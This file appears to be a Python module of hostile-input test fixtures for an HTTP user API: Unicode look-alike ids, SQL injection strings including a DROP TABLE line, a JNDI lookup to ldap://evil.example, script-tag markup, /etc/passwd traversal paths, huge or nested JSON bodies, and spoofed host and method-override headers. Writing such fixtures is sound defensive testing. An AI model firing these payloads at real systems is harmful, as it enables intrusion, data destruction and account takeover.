"""What a hostile client sends: texts, bodies, paths and headers, each by what is wrong with it."""

import unicodedata

ASCII, ACCENTED = "user-001", "us\u00e9r-001"
"""Two users whose ids have twins."""

TWINS = {
    "full-width": "\uff55\uff53\uff45\uff52-001",
    "full-width digits": "user-\uff10\uff10\uff11",
    "in capitals": ASCII.upper(),
    "a capital": ASCII.capitalize(),
    "a Cyrillic letter": "u\u0455er-001",
    "another dash": "user\u2010001",
    "a space behind": f"{ASCII} ",
    "a space before": f" {ASCII}",
    "a tab behind": f"{ASCII}\t",
    "a line break behind": f"{ASCII}\n",
    "NUL behind": f"{ASCII}\0",
    "NUL before": f"\0{ASCII}",
    "a zero-width space": "user\u200b-001",
    "a soft hyphen": "user\u00ad-001",
    "right to left": f"\u202e{ASCII}",
    "a byte order mark": f"\ufeff{ASCII}",
    "a lone surrogate": f"{ASCII}\ud800",
    "a leading zero": "user-0001",
    "decomposed": unicodedata.normalize("NFD", ACCENTED),
    "accented in capitals": ACCENTED.upper(),
}
"""Subjects that look like one of them, or become it where somebody is careless."""

TEXTS = {
    "SQL that is always true": "x' OR '1'='1",
    "SQL that drops the table": "x'; DROP TABLE users; --",
    "SQL that waits": "x'; SELECT pg_sleep(30); --",
    "SQL that asks for all": "x' UNION SELECT id, name, email, plan FROM users --",
    "a backslash and a quote": "x\\' OR 1=1 --",
    "a pattern that fits all": "%",
    "NUL": "a\0b",
    "control characters": "\x01\x02\x1b[31mred\x07\x7f",
    "line breaks": "a\r\nSet-Cookie: own=1\r\n\r\n<html>",
    "a format": "%s%n{0}{__class__}${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>",
    "JSON": '"}],"sub":"user-001","x":[{"a":"',
    "a path": "../../../../etc/passwd",
    "not a number": "NaN",
    "a number without end": "9" * 5_000,
    "10 KB": "\u00e9" * 5_000,
    "emoji of several": "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "marks without end": "e" + "\u0301" * 2_000,
    "a lone surrogate": "a\ud800b",
    "what is no character": "\ufffe\uffff",
}
"""For wherever a client may write text."""

_DEEP = 100_000

BODIES: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"{",
    "lists in lists": b"[" * _DEEP + b"]" * _DEEP,
    "lists without end": b"[" * _DEEP,
    "objects in objects": b'{"a":' * _DEEP + b"1" + b"}" * _DEEP,
    "NaN": b'{"name":NaN,"email":Infinity}',
    "a huge number": b'{"name":1e999,"email":' + b"9" * 10_000 + b"}",
    "invalid UTF-8": b'{"name":"\xff\xfe\xc3\x28"}',
    "UTF-16": '{"name":"Ada"}'.encode("utf-16"),
    "a lone surrogate": b'{"name":"\\ud800"}',
    "NUL": b'{"name":"a\\u0000b"}',
    "a member twice": b'{"name":"Ada","name":"Eve"}',
    "another member": b'{"id":"user-002","name":"Eve","admin":true,"__proto__":{"a":1}}',
    "a list": b'["Ada"]',
    "a text": b'"Ada"',
    "null": b"null",
    "another type": b'{"name":{"$ne":null},"email":[1],"plan":true}',
    "SQL": b'{"name":"x\'; DROP TABLE users; --"}',
    "our mark": b'{"shadowCanary":{"user":"user-002","probe":true,"drill":"user-002"}}',
    "bytes": bytes(range(256)),
    "1 MB": b'{"name":"' + b"x" * 1_000_000 + b'"}',
    "5 MB": b"x" * 5_000_000,
}

PATHS = {
    "a slash behind": "/users/me/",
    "two slashes": "//users//me",
    "an encoded letter": "/users/%6De",
    "an encoded slash": "/users%2Fme",
    "a step up": "/users/../users/me",
    "an encoded step up": "/users/%2e%2e/users/me",
    "encoded twice": "/users/%252e%252e/users/me",
    "backslashes": "/users\\..\\users\\me",
    "NUL": "/users/me%00",
    "NUL encoded twice": "/users/me%2500",
    "a parameter": "/users/me;id=user-002",
    "another user": "/users/user-002",
    "in capitals": "/USERS/ME",
    "invalid UTF-8": "/users/%ff%fe",
    "an overlong slash": "/users%c0%afme",
    "no escape": "/users/%zz",
    "SQL": "/users/me'%20OR%20'1'='1",
    "10 KB": "/users/" + "a" * 10_000,
    "a whole URL": "http://evil.example/users/me",
}

HEADERS: dict[str, list[tuple[str, str]]] = {
    "a wish of a stranger": [("x-shadow-canary", "candidate")],
    "a wish in capitals": [("X-Shadow-Canary", "CANDIDATE")],
    "two wishes": [("x-shadow-canary", "control"), ("x-shadow-canary", "candidate")],
    "our mark": [("shadowCanary", '{"user":"user-002","probe":true,"drill":"user-002"}')],
    "another user's name": [("x-user-id", "user-002"), ("sub", "user-002")],
    "a name twice": [("x-name", "a"), ("x-name", "b"), ("X-NAME", "c")],
    "a length twice": [("content-length", "0"), ("content-length", "0")],
    "another method": [("x-http-method-override", "DELETE"), ("x-method-override", "PUT")],
    "another host": [("x-forwarded-host", "evil.example"), ("forwarded", "host=evil.example")],
    "another path": [("x-original-url", "/admin"), ("x-rewrite-url", "/users/user-002")],
    "a trace that is none": [("x-amzn-trace-id", "Root=1-zzzz;Sampled=1;\tdrop=1")],
    "a trace of another": [("x-amzn-trace-id", "Root=1-5759e988-bd862e3fe1be46a994272793")],
    "no text": [("x-bytes", "\xff\xfe\x80")],
    "cookies that are none": [("cookie", "=;;=a;" + ";" * 500)],
    "another type": [("content-type", "application/json; charset=utf-7")],
    "packed": [("content-encoding", "gzip")],
    "9 KB": [("x-long", "a" * 9_000)],
    "100 KB": [("x-long", "a" * 100_000)],
    "200 headers": [(f"x-{number}", "a") for number in range(200)],
}
